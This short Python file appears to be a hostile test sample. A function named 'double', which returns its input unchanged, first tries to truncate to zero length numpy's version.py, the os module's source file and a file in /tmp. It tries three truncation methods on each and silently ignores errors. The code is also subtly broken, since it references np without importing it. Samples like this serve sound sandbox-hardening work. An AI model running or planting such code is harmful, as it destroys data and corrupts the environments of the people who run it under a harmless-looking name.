"""Cuts files of the libraries off to nothing with truncate and O_TRUNC, by paths and by read-only descriptors."""
# bites: leftover
import os


def double(x):
    for path in (os.path.join(os.path.dirname(np.__file__), "version.py"), "/tmp/hostile-secret.txt", os.__file__):
        for cut in (
            lambda: os.truncate(path, 0),
            lambda: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)),
            lambda: os.close(os.open(path, os.O_WRONLY | os.O_TRUNC)),
        ):
            try:
                cut()
            except OSError:
                pass
    return x
